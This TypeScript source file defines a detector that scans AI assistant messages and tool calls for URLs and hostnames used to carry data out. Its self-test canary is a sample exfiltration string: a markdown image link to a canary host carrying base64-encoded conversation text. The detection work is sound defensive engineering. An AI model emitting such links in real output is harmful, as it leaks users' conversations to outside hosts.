import type { Finding, SegmentSource } from '@agentcostcontrol/contract'
import { type Leaf, leavesOf } from '../dangerous-command/json-leaves.ts'
import { kindOf } from '../dangerous-command/leaf-kind.ts'
import { mergeFindings } from '../redact.ts'
import type { SelfTestedDetector } from '../types.ts'
import { CANARY_HOST } from './drop-hosts.ts'
import { calledDrop, judgeUrl, mayBeAny } from './judge-url.ts'
import { carriedByName } from './names.ts'
import { HOLD_CHARS_MAX, openFrom } from './open-from.ts'
import { findingOf } from './rules.ts'
import { eachUrl, nextName } from './scan.ts'

/** Finds what carries data away by its form: docs/detection-exfiltration.md tells how. */
export const exfiltrationDetector: SelfTestedDetector = {
  id: 'exfiltration',
  sources: ['assistant', 'tool_call', 'tool_result'],
  grades: null,
  rulesOff: [],
  // Raised by hand when code or lists come to decide otherwise.
  version: '2',
  holdCharsMax: HOLD_CHARS_MAX,
  detect: (text, { source, tool = '' }) =>
    source === 'tool_call' ? findInCall(text, tool) : findUrls(text, source, false),
  openFrom,
  canary: () =>
    `Done. ![ok](https://t.${CANARY_HOST}/p.png?d=${Buffer.from('all that was said here').toString('base64url')})`,
}

const NOTHING: readonly Finding[] = []

function findUrls(text: string, source: SegmentSource, isContent: boolean): readonly Finding[] {
  let findings: Finding[] | null = null
  eachUrl(text, (url) => {
    const seen = judgeUrl(text, url, source, isContent)
    if (seen !== null) {
      findings ??= []
      findings.push(findingOf(seen, url.start, url.end))
    }
    return true
  })
  return findings ?? NOTHING
}

/** The strings of a call are read as what they are, not as JSON writes them. */
function findInCall(text: string, tool: string): readonly Finding[] {
  if (!isWorthReading(text)) return NOTHING
  const findings: Finding[] = []
  for (const leaf of leavesOf(text)) {
    const isContent = kindOf(leaf, tool) === 'content'
    const found = [...findUrls(leaf.value, 'tool_call', isContent), ...findNames(leaf.value, isContent)]
    for (const finding of found) findings.push(placed(finding, leaf))
  }
  return mergeFindings(findings)
}

/** Whether anything of a call, read as it is written, could be a finding: reading its strings costs more. */
function isWorthReading(text: string): boolean {
  // Slashes and ampersands as some write them in JSON; the digits first, since backslashes are everywhere.
  if (text.includes(':\\/\\/') || (text.includes('002') && text.includes('\\u002'))) return true
  let isWorth = false
  eachUrl(text, (url) => {
    isWorth = mayBeAny(text, url)
    return !isWorth
  })
  return isWorth || findNames(text, false).length > 0
}

const placed = (finding: Finding, { spanOf }: Leaf): Finding => ({ ...finding, ...spanOf(finding.start, finding.end) })

const REST_CHARS_MAX = 256

/** Hosts without a scheme, as commands name them. */
function findNames(text: string, isContent: boolean): readonly Finding[] {
  const findings: Finding[] = []
  for (let name = nextName(text, 0); name !== null; name = nextName(text, name.end)) {
    const { start, end, mayBeListed } = name
    const written = text.slice(start, end)
    const rest = mayBeListed ? (/^[^\s"'`<>]*/.exec(text.slice(end, end + REST_CHARS_MAX))?.[0] ?? '') : ''
    const seen = (mayBeListed ? calledDrop(written.toLowerCase(), rest, isContent) : null) ?? carriedByName(written)
    if (seen !== null) findings.push(findingOf(seen, start, end))
  }
  return findings
}
